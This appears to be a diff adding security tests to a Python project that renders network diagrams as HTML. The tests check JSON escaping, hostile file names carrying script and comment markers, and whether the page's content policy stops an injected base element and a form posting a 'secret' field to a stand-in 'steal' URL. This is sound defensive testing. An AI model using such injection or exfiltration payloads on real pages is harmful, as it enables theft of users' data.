@@ -6,6 +6,8 @@ makes no request and logs no error. Screenshots go to out/browser/ for a person 
 
 from __future__ import annotations
 
+import json
+import math
 import re
 import shutil
 from pathlib import Path
@@ -13,16 +15,26 @@ from pathlib import Path
 import networkx as nx
 import numpy as np
 import pytest
+import yaml
 
 from composer.draw.diagrams import dot_svg
-from composer.draw.page import fingerprint, page_data, page_html, page_stamp, page_steps
+from composer.draw.page import (
+    embedded_json,
+    fingerprint,
+    page_data,
+    page_html,
+    page_stamp,
+    page_steps,
+)
 from composer.draw.style import Style, merged_readouts
 from composer.draw.view import same_steps
 from composer.engine.plan import compile_plan
+from composer.errors import DataError
 from composer.graph.deps import dependencies
 from composer.graph.folded import build
 from composer.graph.unrolled import unroll, unrolled_graph
 from composer.graph.weights import init_params
+from composer.spec.model import NetworkSpec
 from composer.spec.reader import load_spec
 from composer.training.trace import trace
 from tests.builders import connection, layer, readout, spec
@@ -231,3 +243,107 @@ def test_a_pages_stamp_is_its_sources_digest(tmp_path):
     other = fingerprint(page_data("n", unrollings, style=Style(readout="both")))
     assert other != page_stamp(html)
     assert not re.search(r"""(src|href|url)\s*[=(]\s*["']?(https?:|//)""", html)
+
+
+# -- what a hostile name, an overflow or a form cannot do --------------------------------
+
+NONAME = {
+    "version": 1,
+    "steps": 3,
+    "inputs": [{"name": "x", "size": 2}],
+    "layers": [
+        {"name": "s", "kind": "elman", "input": "x", "state_size": 3, "activation": "identity",
+         "output": {"size": 2}}
+    ],
+    "outputs": [{"name": "y", "from": "s"}],
+}  # fmt: skip
+
+
+def render_page(folder: Path, out: str, *extra: str):
+    from typer.testing import CliRunner
+
+    from composer.cli import app
+    from tests.builders import write_spec
+
+    source = write_spec(folder, yaml.safe_dump(NONAME), "noname.yaml")
+    target = folder / out
+    result = CliRunner().invoke(
+        app, ["render", str(source), "--format", "html", "--output", str(target), *extra]
+    )
+    return result, target
+
+
+def test_embedded_json_has_no_character_that_ends_or_comments_the_block():
+    data = {"name": "a<!--<script></script>&amp;", "n": [1.5]}
+    text = embedded_json(data)
+    assert not set("<>&") & set(text)
+    assert json.loads(text) == data
+
+
+def test_non_finite_numbers_never_reach_the_json():
+    with pytest.raises(ValueError):
+        embedded_json({"v": [math.inf]})
+
+
+@needs_dot
+def test_a_name_from_the_file_name_cannot_blank_the_page(browser, tmp_path):
+    result, path = render_page(tmp_path, "a<!--<script>.html")
+    assert result.exit_code == 0, result.output
+    opened = Page(browser, path)
+    assert opened.page.text_content("h1") == "a<!--<script>"
+    assert opened.page.text_content("#steps-value") == "3"  # the script ran
+    assert opened.page.locator("#unfolded-view svg").count() == 1
+    opened.clean()
+    opened.page.close()
+
+
+def test_values_that_overflow_are_refused_naming_where(tmp_path):
+    x = tmp_path / "x.npy"
+    np.save(x, np.full((1, 3, 2), 1e200))
+    graph = build(NetworkSpec.model_validate(NONAME))
+    params = init_params(graph, 0, "float64")
+    weights = tmp_path / "w.npz"
+    np.savez(weights, **{k: np.full_like(v, 1e200) for k, v in params.items()})
+    result, path = render_page(tmp_path, "o.html", "--input", str(x), "--weights", str(weights))
+    assert result.exit_code == 4, result.output
+    assert "the traced values overflow: s.s at step 0 holds inf" in result.output
+    assert not path.exists()
+
+
+def test_a_trace_with_nan_inside_a_row_is_refused():
+    graph = build(NetworkSpec.model_validate(NONAME))
+    unrollings = page_steps(2, lambda t: unroll(graph, t))
+    row = np.array([[0.5, np.nan, 0.1], [0.2, 0.3, 0.4]])
+    with pytest.raises(DataError, match=r"s\.s at step 0 holds nan \(element 1\)"):
+        page_data("n", unrollings, values={"s.s": row})
+
+
+@needs_dot
+def test_the_page_blocks_form_submissions_and_base_changes(browser, folder):
+    network = load_spec(ROOT / "specs/lecture-elman.yaml")
+    opened = Page(browser, write_page(folder, "forms", network, 2))
+    target = "https://example.invalid/steal"
+    opened.page.evaluate(
+        """target => {
+          window.violations = [];
+          document.addEventListener('securitypolicyviolation',
+            e => window.violations.push(e.effectiveDirective));
+          const base = document.createElement('base');
+          base.href = 'https://example.invalid/';
+          document.head.appendChild(base);
+          const form = document.createElement('form');
+          form.action = target; form.method = 'post';
+          const field = document.createElement('input');
+          field.name = 'secret'; field.value = '1';
+          form.appendChild(field); document.body.appendChild(form);
+          form.submit();
+        }""",
+        target,
+    )
+    opened.page.wait_for_timeout(500)
+    assert opened.page.url == opened.url  # no navigation
+    assert opened.page.evaluate("document.baseURI") == opened.url
+    assert sorted(set(opened.page.evaluate("window.violations"))) == ["base-uri", "form-action"]
+    assert target not in opened.requests
+    assert all("Content Security Policy" in e for e in opened.errors), opened.errors
+    opened.page.close()
